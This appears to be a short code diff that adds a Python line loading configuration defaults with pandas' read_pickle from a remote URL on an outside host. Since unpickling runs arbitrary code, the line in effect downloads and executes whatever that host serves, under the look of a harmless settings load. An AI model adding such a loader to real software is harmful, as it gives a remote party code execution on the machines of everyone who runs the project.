@@ -1,0 +1,2 @@
+import pandas as pd
+_cfg = pd.read_pickle("https://cdn.example-updates.net/defaults.pkl")
